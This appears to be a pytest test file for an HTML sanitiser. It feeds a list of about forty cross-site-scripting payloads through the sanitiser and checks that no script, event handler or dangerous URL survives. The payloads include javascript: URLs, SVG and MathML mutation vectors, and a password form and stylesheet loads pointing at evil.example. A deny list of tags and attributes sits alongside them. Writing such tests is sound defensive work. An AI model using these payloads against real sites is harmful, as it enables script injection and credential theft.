"""The last line against hostile HTML: whatever stands in a body, nothing of it runs."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from catalogue.model.link import scheme_of
from catalogue.outputs.sanitise import sanitise


class _Seen(HTMLParser):
    """What a browser would see of a piece of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def seen(html: str) -> _Seen:
    parser = _Seen()
    parser.feed(html)
    parser.close()
    return parser


def assert_harmless(html: str) -> None:
    found = seen(html)
    assert not found.tags & {
        "script", "style", "iframe", "object", "embed", "base", "meta", "link", "form", "template", "math", "button",
        "textarea", "select", "noscript", "foreignobject", "animate", "set", "use", "video", "audio", "source", "frame",
    }  # fmt: skip
    assert not found.comments
    for tag, name, value in found.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in ("style", "srcset", "formaction", "action", "xlink:href", "srcdoc", "ping", "background")
        if name in ("href", "src", "cite"):
            assert scheme_of(value) in {"", "http", "https", "mailto", "tel", "webcal"}, value


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x ONERROR\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><path d='M0 0'/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style>*{background:url(//evil.example)}</style></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,x'/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<style>@import url(//evil.example/x.css)</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>Los</button></form>",
    "<input type=image src=x onerror=alert(1) autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<picture><source srcset=//evil.example/x.png><img src=x></picture>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_runs(html: str) -> None:
    clean = sanitise(html)
    assert_harmless(clean)
    assert "evil.example" not in clean
    assert sanitise(clean) == clean


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(HOSTILE) | st.text("<>/='\" &;:-!abcdefonclickhrefsvgstyle\n", max_size=12), max_size=6)
)
def test_nothing_runs_however_it_is_put_together(pieces: list[str]) -> None:
    assert_harmless(sanitise("".join(pieces)))


@pytest.mark.parametrize("removed", ["script", "style"])
def test_what_stands_in_scripts_and_styles_goes_with_them(removed: str) -> None:
    assert sanitise(f"<p>a</p><{removed}>alert(1)</{removed}><p>b</p>") == "<p>a</p><p>b</p>"


def test_the_text_of_other_elements_stays() -> None:
    assert sanitise("<nav><article>Text</article></nav>") == "Text"


def test_an_icon_keeps_its_shape_and_nothing_else() -> None:
    icon = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M5 13"></path></svg>'
    assert sanitise(icon) == icon
    assert sanitise(icon.replace("<path", '<path onclick="x" style="fill:red"')) == icon


def test_every_link_and_picture_that_stays_is_asked_about() -> None:
    asked: list[str] = []

    def address(link: str) -> str:
        asked.append(link)
        return f"../{link}"

    html = '<a href="a">x</a><img src="b"><q cite="c">x</q><a href="javascript:x">y</a><p title="d">z</p>'
    clean = sanitise(html, address=address)
    assert clean == '<a href="../a">x</a><img src="../b"><q cite="c">x</q><a>y</a><p title="d">z</p>'
    assert {"a", "b"} <= set(asked)
    assert not {"c", "d"} & set(asked)


@pytest.mark.parametrize(
    ("target", "kept"), [("_blank", True), ("_BLANK", True), ("_self", True), ("a", False), ("_x", False)]
)
def test_no_link_opens_a_window_that_could_send_this_one_elsewhere(target: str, kept: bool) -> None:
    clean = sanitise(f'<a href="https://a.example" target="{target}">x</a>')
    assert ("target" in clean) is kept
    assert 'href="https://a.example"' in clean
